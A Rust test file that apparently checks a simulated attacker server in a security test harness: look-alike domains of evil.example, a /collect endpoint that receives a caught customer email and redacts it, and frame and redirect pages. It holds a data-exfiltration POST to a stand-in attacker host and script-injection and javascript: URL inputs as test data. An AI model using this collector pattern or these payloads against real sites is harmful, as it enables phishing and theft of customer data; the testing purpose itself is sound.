//! The attacker answers on its own origin and on every look-alike.

use crate::support::World;
use http::{Method, StatusCode};
use serde_json::json;

#[tokio::test]
async fn every_look_alike_serves_the_same_pages() {
    let world = World::new(&[]);
    for origin in &world.spec.origins["attacker"].also {
        let page = world.get(&format!("{origin}/")).await;
        assert_eq!(page.status, StatusCode::OK, "{origin}");
        assert!(page.body.contains("/assets/listen.js"));
    }
    let opaque = world.get("https://evil.example/opaque").await;
    assert_eq!(opaque.header("content-security-policy"), "sandbox allow-scripts");
}

#[tokio::test]
async fn what_is_caught_is_told() {
    let world = World::new(&[]);
    let caught = json!({"page": "/", "origin": "https://customers.qontak.com", "data": {"contactEmail": "ayu.lestari@pelanggan.example"}});
    let answer = world
        .send(
            Method::POST,
            "https://crm.qontak.com.evil.example/collect",
            &[("content-type", "text/plain;charset=UTF-8"), ("origin", "null")],
            caught.to_string().into_bytes(),
        )
        .await;
    assert_eq!(answer.status, StatusCode::NO_CONTENT);
    let told = world.told("message-caught");
    assert_eq!(told[0]["host"], "crm.qontak.com.evil.example");
    assert_eq!(told[0]["origin"], "https://customers.qontak.com");
    let event = world.events().pop().unwrap();
    assert_eq!(
        event.sightings[0].canary, "contact_email",
        "seen before it was redacted"
    );
    assert!(
        !serde_json::to_string(&event.fact)
            .unwrap()
            .contains("ayu.lestari")
    );
}

#[tokio::test]
async fn pages_point_where_they_are_told_and_carry_nothing_else() {
    let world = World::new(&[]);
    let page = world
        .get("https://evil.example/frame?of=https://customers.qontak.com/customers/123")
        .await;
    assert!(
        page.body
            .contains("src=\"https://customers.qontak.com/customers/123\"")
    );
    let quoted = world
        .get("https://evil.example/frame?of=https://x.example/%22%3E%3Cscript%3E")
        .await;
    assert!(!quoted.body.contains("<script>"), "{}", quoted.body);
    let script = world
        .get("https://evil.example/open?of=javascript:alert(1)")
        .await;
    assert!(!script.body.contains("javascript:"));
    let away = world
        .get("https://evil.example/redirect?to=https://crm.qontak.com/embed/ticket/create")
        .await;
    assert_eq!(
        away.header("location"),
        "https://crm.qontak.com/embed/ticket/create"
    );
    for asset in ["listen.js", "pretend.js", "frame.js", "open.js", "catch.js"] {
        let script = world.get(&format!("https://evil.example/assets/{asset}")).await;
        assert_eq!(script.status, StatusCode::OK);
        assert_eq!(
            script.header("access-control-allow-origin"),
            "*",
            "scripts of an opaque page come across origins"
        );
    }
}
